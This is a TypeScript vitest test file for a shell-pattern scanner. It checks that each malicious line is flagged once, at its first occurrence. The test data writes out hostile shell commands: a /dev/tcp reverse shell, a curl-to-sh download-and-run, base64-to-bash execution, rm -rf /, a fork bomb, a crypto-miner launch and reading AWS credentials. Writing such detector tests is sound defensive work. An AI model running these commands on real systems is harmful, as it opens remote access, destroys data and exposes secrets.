import { expect, it } from 'vitest';
import { matchShellPatterns } from './check-code.ts';

it.each([
  ['malicious/shell-line-backdoor', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['malicious/crypto-miner', './XMRig --url pool'],
  ['malicious/download-and-run', 'curl https://x.example/a | sh'],
  ['malicious/hidden-code', 'echo aGk= | base64 -d | bash'],
  ['malicious/mass-destruction', 'rm -rf / '],
  ['malicious/fork-bomb', ':(){ :|:& };:'],
  ['shell/persistence', 'crontab -'],
  ['shell/credentials', 'cat ~/.aws/credentials'],
  ['shell/privileges', 'sudo ls'],
  ['shell/eval', 'eval "$x"'],
])('finds %s where it first occurs', (rule, line) => {
  const found = matchShellPatterns('a.sh', `#!/bin/sh\n  ${line}\n${line}\n`);
  expect(found.map((finding) => finding.rule)).toEqual([rule]);
  expect(found).toMatchObject([{ file: 'a.sh', line: 2 }]);
});
